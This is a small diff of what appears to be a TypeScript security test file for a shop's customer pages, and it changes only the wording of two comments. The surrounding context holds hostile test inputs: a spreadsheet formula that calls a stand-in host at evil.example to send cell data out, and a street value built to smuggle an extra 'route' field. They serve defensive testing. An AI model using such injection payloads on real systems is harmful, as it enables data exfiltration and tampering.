@@ -34,7 +34,7 @@ const form = (fields: Record<string, string>) => ({
 /** What an attack got: the row, and the answer. */
 type Got = readonly [row: string, answer: string];
 
-/** Attacks the rows with what a customer's links hold, one page's after the other; nothing may have changed, and nothing of others is told. */
+/** Attacks the rows with what a customer's links hold, one page's after the other; nothing may have changed, and nothing of others is reported. */
 const withoutEffect = async (
   rows: readonly string[],
   attack: (row: string, token: string, page: PagePurpose) => Promise<string>,
@@ -113,7 +113,7 @@ test.each(ROWS['Customers’ pages'])('a link opens its own page only, and %s te
   }
 });
 
-/** Values with which somebody at the shop may try to reach more than an order. */
+/** Values with which someone at the shop may try to reach more than an order. */
 const REACHING = {
   customerName: '=IMPORTDATA("https://evil.example/"&D2)',
   street: '1 Main St", "route": "orders/status',
